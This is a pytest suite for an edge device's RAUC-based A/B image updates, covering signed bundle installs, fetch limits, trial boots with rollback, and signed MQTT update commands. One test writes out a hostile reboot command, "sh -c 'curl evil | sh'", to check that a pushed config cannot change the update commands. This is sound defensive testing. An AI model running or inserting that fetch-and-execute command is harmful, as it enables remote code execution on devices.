"""Image updates against a real RAUC (Debian's rauc 1.8): its service on a private D-Bus, two root slots
that are files, bundles signed with a key pair made here, and RAUC's custom bootloader backend as a
script that keeps the primary slot and each slot's state in files (the one part that stands in for the
bootloader). The service is restarted with --override-boot-slot to boot the other slot, as a reboot would;
edge's view of the boot (its id, the time since it) follows from the file EDGE_TEST_BOOT names.

RAUC mounts a bundle to install it: the tests need loop devices (and root), else they are skipped."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import time
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from edge.write import sign
from tests.support import (
    ROOT,
    EdgeProcess,
    Files,
    Subscriber,
    config_dict,
    free_port,
    http_server,
    serve,
    simulated_pump,
    start_broker,
    stop,
    wait_metric,
    write_config,
)

pytestmark = pytest.mark.skipif(
    shutil.which("rauc") is None or shutil.which("dbus-daemon") is None or os.geteuid() != 0
    or not Path("/dev/loop-control").exists(),
    reason="needs rauc, dbus-daemon, root and loop devices (RAUC mounts the bundle it installs)")

BACKEND = """#!/bin/sh
# RAUC's custom bootloader backend: the primary slot and each slot's state, in files beside this one
d=$(dirname "$0")/boot
case "$1" in
  get-primary) cat "$d/primary" ;;
  set-primary) echo "$2" > "$d/primary" ;;
  get-state) cat "$d/state.$2" 2>/dev/null || echo good ;;
  set-state) echo "$3" > "$d/state.$2" ;;
  *) exit 1 ;;
esac
"""


def openssl_pair(where: Path, name: str) -> tuple[Path, Path]:
    cert, key = where / f"{name}.cert.pem", where / f"{name}.key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj",
                    f"/CN={name}", "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
    return cert, key


class Rauc:
    """RAUC's service on a bus of its own; the slots rootfs.0 (boot name A) and rootfs.1 (B). `handlers`:
    RAUC's [handlers] (default: the backend above)."""

    def __init__(self, root: Path, handlers: str = "", slot_size: int = 1 << 20) -> None:
        self.root = root
        (root / "boot").mkdir(parents=True)
        (root / "boot" / "primary").write_text("A\n")
        for slot in ("rootfs.0", "rootfs.1"):
            (root / slot).write_bytes(bytes(slot_size))
        backend = root / "backend.sh"
        backend.write_text(BACKEND)
        backend.chmod(0o755)
        handlers = handlers or f"bootloader-custom-backend={backend}"
        self.cert, self.key = openssl_pair(root, "edge-test")
        self.conf = root / "system.conf"
        self.conf.write_text(f"""[system]
compatible=edge-test
bootloader=custom
data-directory={root}/data
bundle-formats=plain verity

[handlers]
{handlers}

[keyring]
path={self.cert}

[slot.rootfs.0]
device={root}/rootfs.0
type=raw
bootname=A

[slot.rootfs.1]
device={root}/rootfs.1
type=raw
bootname=B
""")
        (root / "data").mkdir()
        self.bus = f"unix:path={root}/bus"
        self.dbus = subprocess.Popen(["dbus-daemon", "--session", "--nofork", f"--address={self.bus}",
                                      "--print-address"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        assert self.dbus.stdout is not None and self.dbus.stdout.readline()  # listening once it says where
        self.service: subprocess.Popen[bytes] | None = None
        self.boot_file = root / "boot-id"
        self.env = {"DBUS_SESSION_BUS_ADDRESS": self.bus, "DBUS_STARTER_BUS_TYPE": "session",
                    "EDGE_TEST_BOOT": str(self.boot_file)}

    def boot(self, bootname: str) -> None:
        """(Re)start the service as if the board had booted from `bootname`: a new boot, now."""
        self.halt()
        self.boot_file.write_text(f"{uuid.uuid4()} {time.time()}\n")
        env = {**os.environ, **self.env}
        log = self.root / f"service-{bootname}.log"
        with open(log, "wb") as out:
            self.service = subprocess.Popen(["rauc", f"--conf={self.conf}", f"--mount={self.root}/mnt",
                                             "service", f"--override-boot-slot={bootname}"], env=env,
                                            stdout=out, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 20
        while subprocess.run(["rauc", "status"], env=env, capture_output=True, check=False).returncode:
            assert self.service.poll() is None and time.monotonic() < deadline, log.read_text()
            time.sleep(0.1)

    def halt(self) -> None:
        if self.service is not None:
            self.service.terminate()
            self.service.wait(10)
            self.service = None

    def mounted(self) -> list[str]:
        """What is mounted under RAUC's mount prefix now."""
        with open("/proc/self/mountinfo", encoding="utf-8") as f:
            return [p for line in f if (p := line.split()[4]).startswith(f"{self.root}/mnt/")]

    def close(self) -> None:
        self.halt()
        # RAUC killed mid-install leaves its bundle mounted (on a box, until the next boot): not past the
        # test, where it would outlive the bundle's file and trip every later mount namespace
        for point in sorted(self.mounted(), reverse=True):
            subprocess.run(["umount", "-l", point], check=False)
        self.dbus.terminate()
        self.dbus.wait(10)
        if self.dbus.stdout is not None:
            self.dbus.stdout.close()

    def bundle(self, name: str, image: bytes | Path, signer: tuple[Path, Path] | None = None,
               install_hook: str = "") -> Path:
        """A bundle of `image` for the slot; with `install_hook`, a script that writes the slot instead
        of RAUC (a bundle's slot-install hook)."""
        src = self.root / f"src-{name}"
        src.mkdir()
        if isinstance(image, Path):
            shutil.copy(image, src / "rootfs.img")
        else:
            (src / "rootfs.img").write_bytes(image)
        hooks = ""
        if install_hook:
            (src / "hook.sh").write_text(install_hook)
            (src / "hook.sh").chmod(0o755)
            hooks = "[hooks]\nfilename=hook.sh\n\n"
        (src / "manifest.raucm").write_text(
            f"[update]\ncompatible=edge-test\nversion=2\n\n[bundle]\nformat=plain\n\n{hooks}"
            f"[image.rootfs]\nfilename=rootfs.img\n{'hooks=install' if hooks else ''}\n")
        cert, key = signer or (self.cert, self.key)
        out = self.root / f"{name}.raucb"
        subprocess.run(["rauc", "bundle", f"--cert={cert}", f"--key={key}", str(src), str(out)], check=True,
                       capture_output=True)
        return out

    def state(self, bootname: str) -> str:
        path = self.root / "boot" / f"state.{bootname}"
        return path.read_text().strip() if path.exists() else "good"

    def primary(self) -> str:
        return (self.root / "boot" / "primary").read_text().strip()


@pytest.fixture
def rauc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Rauc]:
    r = Rauc(tmp_path / "rauc")
    for k, v in r.env.items():
        monkeypatch.setenv(k, v)  # the `rauc` client edge runs talks to this service
    try:
        r.boot("A")
        yield r
    finally:
        r.close()


def edge_config(tmp: Path, sim_port: int = 1, broker: int | None = None, **update: Any) -> Path:
    """Offline (nothing listens at its broker's port) unless a broker is given."""
    cfg = config_dict(tmp, sim_port, broker or free_port())
    cfg["update"] = {"enabled": True, "max_bundle": "2MiB", **update}
    cfg["metrics"] = {"port": free_port()}  # known, for `edge status`
    path = tmp / "config.toml"
    write_config(path, cfg)
    return path


def update(conf: Path, source: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "edge", "update", source, str(conf)], cwd=ROOT,
                          capture_output=True, text=True, timeout=120, check=False)


def record(tmp: Path) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads((tmp / "state" / "update.json").read_text())
    return doc


class NoLength(Files):
    """Announces no Content-Length: the bundle ends where the server closes the connection."""

    def send_header(self, keyword: str, value: str) -> None:
        if keyword.lower() != "content-length":
            super().send_header(keyword, value)


@contextlib.contextmanager
def served(directory: Path, kind: type[Files] = Files) -> Iterator[str]:
    with serve(directory, kind) as port:
        yield f"http://127.0.0.1:{port}"


def test_a_signed_bundle_is_installed_into_the_other_slot_and_a_foreign_one_refused(
        tmp_path: Path, rauc: Rauc) -> None:
    conf = edge_config(tmp_path)
    image = os.urandom(256 * 1024)
    foreign = rauc.bundle("foreign", os.urandom(1024), openssl_pair(tmp_path, "someone-else"))
    refused = update(conf, str(foreign))
    assert refused.returncode == 1 and "signature" in refused.stderr.lower(), refused
    assert rauc.primary() == "A" and (rauc.root / "rootfs.1").read_bytes() == bytes(1 << 20)
    assert not (tmp_path / "state" / "update.json").exists()

    good = rauc.bundle("good", image)
    done = update(conf, str(good))
    assert done.returncode == 0, done
    assert "100%" in done.stdout and "installed into rootfs.1" in done.stdout  # RAUC's progress, relayed
    assert (rauc.root / "rootfs.1").read_bytes()[:len(image)] == image and rauc.primary() == "B"
    assert (rauc.root / "rootfs.0").read_bytes() == bytes(1 << 20)  # the booted slot untouched
    assert {k: record(tmp_path)[k] for k in ("state", "slot", "from")} == {
        "state": "installed", "slot": "rootfs.1", "from": "rootfs.0"}


def test_a_bundle_from_a_url_is_fetched_within_its_limit(tmp_path: Path, rauc: Rauc) -> None:
    conf = edge_config(tmp_path)
    www = tmp_path / "www"
    www.mkdir()
    shutil.copy(rauc.bundle("v2", os.urandom(64 * 1024)), www / "v2.raucb")
    shutil.copy(rauc.bundle("big", os.urandom(3 << 20)), www / "big.raucb")
    with served(www) as url:
        big = update(conf, f"{url}/big.raucb")
        missing = update(conf, f"{url}/none.raucb")
        done = update(conf, f"{url}/v2.raucb")
    assert big.returncode == 1 and "max_bundle" in big.stderr, big
    assert missing.returncode == 1 and "404" in missing.stderr, missing
    assert done.returncode == 0 and "fetched 100 %" in done.stdout, done
    assert rauc.primary() == "B" and record(tmp_path)["source"] == f"{url}/v2.raucb"
    assert not list((tmp_path / "state").glob("*.raucb")) and not list((tmp_path / "state").glob(".*part"))


@contextlib.contextmanager
def small_fs(path: Path, size: str) -> Iterator[None]:
    """A tmpfs of `size` at `path`, where RAUC's service sees it too (so not in a private namespace)."""
    got = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                         capture_output=True, text=True, check=False)
    if got.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {got.stderr.strip()}")
    try:
        yield
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


def test_a_fetch_leaves_room_on_data(tmp_path: Path, rauc: Rauc) -> None:
    """The bundle is fetched onto /data, beside the store: one that would leave less than FETCH_LEAVES
    free there is refused before a byte is written when its size is announced, and as soon as it no
    longer fits when it is not; nothing of it stays. One that fits is installed."""
    state = tmp_path / "state"
    state.mkdir()
    conf = edge_config(tmp_path, max_bundle="64MiB")
    www = tmp_path / "www"
    www.mkdir()
    shutil.copy(rauc.bundle("big", os.urandom(24 << 20)), www / "big.raucb")
    shutil.copy(rauc.bundle("small", os.urandom(64 << 10)), www / "small.raucb")
    size = (www / "big.raucb").stat().st_size
    with served(www) as url, served(www, NoLength) as unsized, small_fs(state, "48m"):
        announced = update(conf, f"{url}/big.raucb")
        assert announced.returncode == 1 and announced.stderr.endswith(
            f"big.raucb: {size} bytes, and {state} has {shutil.disk_usage(state).free} free "
            "(a fetch leaves 32 MiB)\n"), announced
        assert not list(state.iterdir())  # neither a part fetched nor a record
        unannounced = update(conf, f"{unsized}/big.raucb")
        full = re.search(rf"{state} full after (\d+) bytes \(a fetch leaves 32 MiB\)\n$", unannounced.stderr)
        assert unannounced.returncode == 1 and full, unannounced
        assert 15 << 20 < int(full.group(1)) <= 16 << 20 and not list(state.iterdir())
        fits = update(conf, f"{unsized}/small.raucb")
        assert fits.returncode == 0 and "installed into rootfs.1" in fits.stdout, fits
        assert [f.name for f in state.iterdir()] == ["update.json"]
    assert rauc.primary() == "B"


def rebooted(marker: Path, edge: EdgeProcess, timeout: float = 10.0) -> None:
    """Until the reboot command (`touch MARKER`) ran (re-checked, bounded)."""
    deadline = time.monotonic() + timeout
    while not marker.exists():
        assert time.monotonic() < deadline, edge.log[-3000:]
        time.sleep(0.1)


def health_update(conf: Path, edge: EdgeProcess, want: str, timeout: float = 30.0) -> dict[str, Any]:
    """/health's `update` once its state is `want` (re-read until then, bounded)."""
    port = edge.metrics_port()
    deadline = time.monotonic() + timeout
    while True:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/health", timeout=5) as r:
            doc: dict[str, Any] = json.loads(r.read())["update"] or {}
        if doc.get("state") == want:
            return doc
        assert time.monotonic() < deadline, f"update state {doc} (wanted {want}):\n{edge.log[-3000:]}"
        time.sleep(0.2)


def test_a_new_slot_is_kept_when_healthy_and_left_when_not(tmp_path: Path, rauc: Rauc) -> None:
    with simulated_pump(tmp_path) as sim_port, start_broker(tmp_path / "mqtt") as broker:
        conf = edge_config(tmp_path, sim_port, broker.port)
        assert update(conf, str(rauc.bundle("v2", os.urandom(4096)))).returncode == 0
        edge = EdgeProcess(conf)  # restarted before the reboot: nothing to decide yet
        try:
            pending = health_update(conf, edge, "installed")
        finally:
            assert stop(edge) == 0
        assert pending["slot"] == "rootfs.1" and "on trial" not in edge.log

        rauc.boot("B")  # the reboot into the new slot
        edge = EdgeProcess(conf)
        try:
            kept = health_update(conf, edge, "good")
            shown = subprocess.run([sys.executable, "-m", "edge", "status", "--window", "0.2", str(conf)],
                                   cwd=ROOT, capture_output=True, text=True, timeout=60, check=False)
        finally:
            assert stop(edge) == 0
        assert kept["slot"] == "rootfs.1" and rauc.state("B") == "good"
        assert "on trial" in edge.log and "marked good" in edge.log
        assert shown.returncode == 0 and "\nupdate\n  good: rootfs.1 from rootfs.0, " in shown.stdout, shown

    # the next version cannot reach its broker within its trial (1 s of boot): marked bad, and the reboot
    # command runs
    with simulated_pump(tmp_path) as sim_port:
        marker = tmp_path / "rebooted"
        conf = edge_config(tmp_path, sim_port, trial="1s", reboot=f"touch {marker}")
        assert update(conf, str(rauc.bundle("v3", os.urandom(4096)))).returncode == 0
        assert rauc.primary() == "A" and record(tmp_path)["slot"] == "rootfs.0"
        rauc.boot("A")
        edge = EdgeProcess(conf)
        try:
            failed = health_update(conf, edge, "failed")
            rebooted(marker, edge)
        finally:
            assert stop(edge) == 0
        assert rauc.state("A") == "bad" and "no block delivered" in failed["detail"]

        # as a trial cut short before it decided would leave it (a power cut; a Pi firmware that ignored
        # tryboot): A not marked bad. Going back marks it so, or a bootloader could try it again later
        (rauc.root / "boot" / "state.A").write_text("good\n")
        rauc.boot("B")  # the bootloader starts the slot the update came from
        edge = EdgeProcess(conf)
        try:
            back = health_update(conf, edge, "rolled back")
        finally:
            assert stop(edge) == 0
    assert "booted from rootfs.1 again, not from rootfs.0" in back["detail"]
    assert record(tmp_path)["state"] == "rolled back" and rauc.state("A") == "bad"


@pytest.mark.parametrize("text", [b"{", b"[]", b'{"state": 1, "slot": "a", "from": "b"}', b"\xff" * 100,
                                  b'{"state": "installed"}', b" " * (70 * 1024) + b"{}"])
def test_a_damaged_update_record_is_no_update(tmp_path: Path, rauc: Rauc, text: bytes,
                                              caplog: pytest.LogCaptureFixture) -> None:
    """A record edge did not write whole (or anyone's file in its place): no update on record, one
    warning, never a crash; RAUC is not even asked."""
    from edge.config import UpdateConfig  # noqa: PLC0415
    from edge.update import STATE, Trial  # noqa: PLC0415

    (tmp_path / STATE).write_bytes(text)
    trial = Trial(UpdateConfig(enabled=True, rauc="false"), tmp_path)
    assert trial.view() is None and not trial.on_trial
    assert [r.levelname for r in caplog.records] == ["WARNING"]


def test_update_needs_it_enabled(tmp_path: Path, rauc: Rauc) -> None:
    conf = edge_config(tmp_path)
    conf.write_text(conf.read_text().replace("enabled = true", "enabled = false"))
    refused = update(conf, str(rauc.bundle("v2", b"x")))
    assert refused.returncode == 2 and "update.enabled" in refused.stderr, refused
    assert rauc.primary() == "A"


def test_every_healthy_boot_marks_its_slot_good(tmp_path: Path, rauc: Rauc) -> None:
    """No update on record, the booted slot not confirmed (as a counting bootloader leaves it at each
    boot): edge confirms it once it polled and stored, also offline and with its device silent (not the
    image's fault: an older image would fare no better), and records nothing."""
    (rauc.root / "boot" / "state.A").write_text("bad\n")
    with simulated_pump(tmp_path):
        conf = edge_config(tmp_path, free_port())  # nothing answers there, nor at the broker's port
        edge = EdgeProcess(conf)
        try:
            deadline = time.monotonic() + 30
            while rauc.state("A") != "good":
                assert time.monotonic() < deadline and edge.proc.poll() is None, edge.log[-3000:]
                time.sleep(0.1)
        finally:
            assert stop(edge) == 0
    assert not (tmp_path / "state" / "update.json").exists()


def test_an_update_asked_for_over_mqtt_is_signed_installed_and_reported(tmp_path: Path, rauc: Rauc) -> None:
    """cmd/update, signed like a write, names a bundle's URL: RAUC's progress and then the result come
    on cmd/result, and with "reboot" the reboot command runs; a wrong signature or a bundle RAUC refuses
    changes nothing and says why."""
    key = b"u" * 40
    (tmp_path / "ops.key").write_bytes(key)
    www = tmp_path / "www"
    www.mkdir()
    shutil.copy(rauc.bundle("v2", os.urandom(64 * 1024)), www / "v2.raucb")
    shutil.copy(rauc.bundle("foreign", b"x", openssl_pair(tmp_path, "someone-else")), www / "foreign.raucb")
    marker = tmp_path / "rebooted"
    with simulated_pump(tmp_path) as sim_port, start_broker(tmp_path / "mqtt") as broker, served(www) as url:
        cfg = config_dict(tmp_path, sim_port, broker.port)
        cfg["update"] = {"enabled": True, "reboot": f"touch {marker}"}
        cfg["commands"] = {"remote_update": True, "keys": {"ops": str(tmp_path / "ops.key")}}
        cfg["metrics"] = {"port": (mport := free_port())}
        conf = tmp_path / "config.toml"
        write_config(conf, cfg)
        sub = Subscriber(broker.port, "edge/t1/cmd/result")
        edge = EdgeProcess(conf)

        def ask(cid: str, fields: dict[str, Any], signer: bytes = key) -> dict[str, Any]:
            """The result of a command (a forged one's has no id: it is not trusted)."""
            message = sign(signer, "ops", {"id": cid, "expires": time.time() + 300, **fields})
            sub.client.publish("edge/t1/cmd/update", message, qos=1).wait_for_publish(10)
            want = cid if signer == key else None

            def final(s: Subscriber) -> list[dict[str, Any]]:
                return [r for _, p in s.messages if (r := json.loads(p))["id"] == want
                        and r.get("status") != "installing"]

            sub.wait(lambda s: bool(final(s)), timeout=60)
            return final(sub)[0]

        try:
            edge.metrics_port()
            wait_metric(mport, "edge_uplink_blocks_acked_total", lambda v: v >= 1)  # connected, subscribed
            forged = ask("u-0", {"url": f"{url}/v2.raucb"}, signer=b"x" * 40)
            foreign = ask("u-1", {"url": f"{url}/foreign.raucb"})
            assert rauc.primary() == "A" and not marker.exists()
            done = ask("u-2", {"url": f"{url}/v2.raucb", "reboot": True})
            rebooted(marker, edge)
        finally:
            assert stop(edge) == 0
            sub.close()
    assert (forged["ok"], forged["error"]) == (False, "bad signature")
    assert (foreign["ok"], foreign["error"]) == (False, "update failed") and "signature" in foreign["detail"]
    assert (done["ok"], done["status"], done["slot"]) == (True, "installed", "rootfs.1")
    assert rauc.primary() == "B"
    progress = [json.loads(p)["progress"] for _, p in sub.messages if json.loads(p).get("id") == "u-2"
                and json.loads(p).get("status") == "installing"]
    assert any("100%" in line for line in progress), progress
    assert record(tmp_path)["state"] == "installed"


class Hostile(http.server.BaseHTTPRequestHandler):
    """A server that lies: a redirect off http(s), a body shorter than announced, a length that is no
    number."""

    def do_GET(self) -> None:
        if self.path == "/redirect":
            self.send_response(302)
            self.send_header("Location", "ftp://127.0.0.1/v2.raucb")
            self.end_headers()
        elif self.path == "/short":
            self.send_response(200)
            self.send_header("Content-Length", "100000")
            self.end_headers()
            self.wfile.write(b"x" * 10)
        else:
            self.send_response(200)
            self.send_header("Content-Length", "many")
            self.end_headers()
            self.wfile.write(b"x" * 10)
        self.close_connection = True

    def log_message(self, format: str, *args: Any) -> None:
        pass


def test_a_hostile_server_gets_no_bundle_installed(tmp_path: Path, rauc: Rauc) -> None:
    conf = edge_config(tmp_path)
    with http_server(Hostile) as port:
        url = f"http://127.0.0.1:{port}"
        redirected, short, garbled = (update(conf, f"{url}/{p}") for p in ("redirect", "short", "garbled"))
    assert redirected.returncode == 1 and "redirected to a ftp:// URL, refused" in redirected.stderr, \
        redirected
    assert short.returncode == 1 and "10 bytes, 100000 announced" in short.stderr, short
    assert garbled.returncode == 1 and "Traceback" not in garbled.stderr, garbled
    assert rauc.primary() == "A" and not list((tmp_path / "state").iterdir())


def test_a_pushed_config_cannot_change_the_update_commands(tmp_path: Path, rauc: Rauc) -> None:
    """[update] names commands edge runs (the RAUC client, the reboot): a config pushed on cmd/config
    with another [update] is refused, one with the same is taken."""
    from edge.app import _same_update  # noqa: PLC0415
    from edge.config import ConfigError, load  # noqa: PLC0415

    running = load(edge_config(tmp_path))
    other = load(edge_config(tmp_path, reboot="sh -c 'curl evil | sh'"))
    assert _same_update(load(edge_config(tmp_path)), running).update == running.update
    with pytest.raises(ConfigError, match=r"\[update\]: set by the image's config"):
        _same_update(other, running)


def test_an_install_cut_short_is_on_record(tmp_path: Path, rauc: Rauc) -> None:
    """A power cut during `rauc install` leaves the "installing" record: at the next boot, on the old
    slot it is an install that did not finish; on the new one (RAUC had switched) a trial."""
    from edge.config import UpdateConfig  # noqa: PLC0415
    from edge.update import Trial, read_state, write_state  # noqa: PLC0415

    cfg = UpdateConfig(enabled=True)
    cut = {"state": "installing", "slot": "rootfs.1", "from": "rootfs.0", "source": "x", "at": 1,
           "boot_id": "a boot before"}
    write_state(tmp_path, cut)
    rauc.boot("A")
    trial = Trial(cfg, tmp_path)
    assert not trial.on_trial and read_state(tmp_path)["state"] == "failed"
    assert read_state(tmp_path)["detail"] == "the install into rootfs.1 did not finish; rootfs.0 runs on"
    write_state(tmp_path, cut)
    rauc.boot("B")
    assert Trial(cfg, tmp_path).on_trial and read_state(tmp_path)["state"] == "installing"


def test_rauc_killed_mid_install_switches_nothing_and_edge_says_so(tmp_path: Path, rauc: Rauc) -> None:
    """RAUC's service killed (-9) while it writes the slot: `edge update` ends with one line and exit 1,
    the record is the one before, the primary slot and the slot booted are untouched, and the slot half
    written is not started; once RAUC runs again, an install goes through."""
    conf = edge_config(tmp_path)
    mid, stop_hook = tmp_path / "mid", tmp_path / "stop-hook"
    hook = f"""#!/bin/sh
[ "$1" = slot-install ] || exit 0
head -c 65536 "$RAUC_IMAGE_NAME" > "$RAUC_SLOT_DEVICE"
touch {mid}
i=0
while [ ! -e {stop_hook} ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i + 1)); done
"""
    cut = rauc.bundle("cut", os.urandom(512 << 10), install_hook=hook)
    installing = subprocess.Popen([sys.executable, "-m", "edge", "update", str(cut), str(conf)], cwd=ROOT,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 30
        while not mid.exists():  # the hook is writing the slot
            assert installing.poll() is None and time.monotonic() < deadline, installing.communicate()
            time.sleep(0.05)
        assert rauc.service is not None
        rauc.service.kill()
        rauc.service.wait(10)
        rauc.service = None
        out, err = installing.communicate(timeout=60)
    finally:
        stop_hook.touch()
        installing.kill()
        installing.wait()
    assert installing.returncode == 1 and err.count("\n") == 1 and "Traceback" not in err, (out, err)
    assert err.startswith("edge: update: rauc install refused or failed"), err
    assert not (tmp_path / "state" / "update.json").exists()
    assert rauc.primary() == "A" and rauc.state("B") == "bad", rauc.primary()  # B is not started
    assert f"{rauc.root}/mnt/bundle" in rauc.mounted()  # the bundle, left mounted by the RAUC killed
    rauc.boot("A")  # RAUC again (systemd restarts it): the next install goes through
    done = update(conf, str(rauc.bundle("whole", os.urandom(64 << 10))))
    assert done.returncode == 0 and "installed into rootfs.1" in done.stdout, done
    assert rauc.primary() == "B"


PI = ROOT / "image" / "overlay" / "usr" / "lib" / "edge"


def pi_slot(tmp: Path, name: str, kernel: bytes) -> Path:
    """A root slot as the Pi image's: squashfs with a kernel, an initrd and device trees."""
    tree = tmp / f"tree-{name}"
    (tree / "boot").mkdir(parents=True)
    (tree / "boot" / "vmlinuz-6.1.0-pi-arm64").write_bytes(kernel)
    (tree / "boot" / "initrd.img-6.1.0-pi-arm64").write_bytes(b"initrd " + kernel)
    dtbs = tree / "usr" / "lib" / "linux-image-6.1.0-pi-arm64" / "broadcom"
    dtbs.mkdir(parents=True)
    (dtbs / "bcm2711-rpi-4-b.dtb").write_bytes(b"dtb " + kernel)
    out = tmp / f"{name}.squashfs"
    subprocess.run(["mksquashfs", str(tree), str(out), "-noappend", "-quiet", "-no-progress"], check=True,
                   capture_output=True)
    return out


@pytest.mark.skipif(shutil.which("mksquashfs") is None, reason="needs squashfs-tools")
def test_the_pi_image_tries_a_new_slot_once_and_keeps_it_only_when_marked_good(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The Raspberry Pi image's RAUC backend and post-install handler (image/overlay/usr/lib/edge/tryboot*),
    run by RAUC itself on a boot partition that is a directory: the firmware, which reads config.txt, or
    tryboot.txt for one boot after `reboot "0 tryboot"`, is what cannot run here, and the service's
    --override-boot-slot stands in for the slot it would start."""
    boot = tmp_path / "bootfs"
    (boot / "slot-a").mkdir(parents=True)
    config = "os_prefix=slot-a/\n[all]\narm_64bit=1\nkernel=vmlinuz\ninitramfs initrd.img followkernel\n"
    (boot / "config.txt").write_text(config)
    (boot / "slot-a" / "cmdline.txt").write_text(
        "console=tty0 root=PARTUUID=5eedc0de-02 rootfstype=squashfs ro rootwait rauc.slot=A\n")
    monkeypatch.setenv("EDGE_TRYBOOT_BOOT", str(boot))  # the service, and so its backend, inherit it
    r = Rauc(tmp_path / "rauc", f"bootloader-custom-backend={PI / 'tryboot'}\n"
                                f"post-install={PI / 'tryboot-install'}", slot_size=4 << 20)
    for k, v in r.env.items():
        monkeypatch.setenv(k, v)

    def status() -> dict[str, Any]:
        doc: dict[str, Any] = json.loads(subprocess.run(["rauc", "status", "--output-format=json"],
                                                        capture_output=True, check=True).stdout)
        return doc

    def install(image: Path) -> None:
        subprocess.run(["rauc", "install", str(r.bundle(image.stem, image))], capture_output=True, check=True)

    def rauc(*args: str) -> None:
        subprocess.run(["rauc", "status", *args], capture_output=True, check=True)

    try:
        r.boot("A")
        assert status()["boot_primary"] == "rootfs.0"
        install(pi_slot(tmp_path, "v2", b"kernel v2"))
        # the new slot's boot files beside the old ones, named for one trial boot; config.txt unchanged
        assert (boot / "slot-b" / "vmlinuz").read_bytes() == b"kernel v2"
        assert (boot / "slot-b" / "initrd.img").read_bytes() == b"initrd kernel v2"
        assert (boot / "slot-b" / "bcm2711-rpi-4-b.dtb").read_bytes() == b"dtb kernel v2"
        assert (boot / "slot-b" / "cmdline.txt").read_text() == \
            "console=tty0 root=PARTUUID=5eedc0de-03 rootfstype=squashfs ro rootwait rauc.slot=B\n"
        assert (boot / "config.txt").read_text() == config
        assert (boot / "tryboot.txt").read_text() == config.replace("slot-a/", "slot-b/")
        assert status()["boot_primary"] == "rootfs.1"
        r.boot("B")  # the trial boot
        rauc("mark-good", "booted")  # edge, once B proved itself: B is config.txt's from now on
        assert (boot / "config.txt").read_text() == config.replace("slot-a/", "slot-b/")
        assert not (boot / "tryboot.txt").exists()

        install(pi_slot(tmp_path, "v3", b"kernel v3"))  # into A now
        assert (boot / "slot-a" / "vmlinuz").read_bytes() == b"kernel v3"
        assert (boot / "tryboot.txt").read_text() == config
        r.boot("A")
        rauc("mark-bad", "booted")  # a failed trial: the firmware starts config.txt's slot, B, again
        assert not (boot / "tryboot.txt").exists()
        assert (boot / "config.txt").read_text() == config.replace("slot-a/", "slot-b/")
        r.boot("B")
        doc = status()
        states = {v["bootname"]: v["boot_status"] for e in doc["slots"] for v in e.values()}
        assert (doc["boot_primary"], states) == ("rootfs.1", {"A": "bad", "B": "good"})
    finally:
        r.close()


@pytest.mark.skipif(shutil.which("grub-editenv") is None, reason="needs grub-editenv (grub-common)")
def test_the_twins_grub_environment_survives_a_damaged_write(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """The amd64 twin's RAUC backend (image/overlay/usr/lib/edge/grubenv) keeps the variables of RAUC's
    grub backend, each change written whole to the file and then to its backup: a file damaged by a power
    cut is read from the backup, and the next change writes both whole again."""
    env = tmp_path / "grubenv"
    subprocess.run(["grub-editenv", str(env), "set", "ORDER=A B", "A_OK=1", "A_TRY=1", "B_OK=0", "B_TRY=0"],
                   check=True)
    shutil.copy(env, tmp_path / "grubenv.bak")
    monkeypatch.setenv("EDGE_GRUBENV", str(env))

    def backend(*args: str) -> str:
        return subprocess.run([str(PI / "grubenv"), *args], capture_output=True, text=True,
                              check=True).stdout.strip()

    def grub(path: Path) -> dict[str, str]:
        out = subprocess.run(["grub-editenv", str(path), "list"], capture_output=True, text=True,
                             check=True).stdout
        return dict(line.split("=", 1) for line in out.splitlines())

    backend("set-state", "A", "good")  # edge's mark-good at boot: GRUB's try counted back to 0
    assert grub(env) == grub(tmp_path / "grubenv.bak") == {
        "ORDER": "A B", "A_OK": "1", "A_TRY": "0", "B_OK": "0", "B_TRY": "0"}
    backend("set-primary", "B")  # an install into B
    assert backend("get-primary") == "B" and grub(env)["ORDER"] == "B A" and grub(env)["B_OK"] == "1"
    env.write_bytes(b"")  # a power cut in the middle of a rewrite in place (O_TRUNC, then write)
    assert subprocess.run(["grub-editenv", str(env), "list"], capture_output=True, check=False).returncode
    assert backend("get-primary") == "B" and backend("get-state", "A") == "good"  # from the backup
    backend("set-state", "B", "bad")
    assert grub(env) == grub(tmp_path / "grubenv.bak") == {
        "ORDER": "B A", "A_OK": "1", "A_TRY": "0", "B_OK": "0", "B_TRY": "0"}
    assert backend("get-primary") == "A"
    assert not list(tmp_path.glob("*.new"))
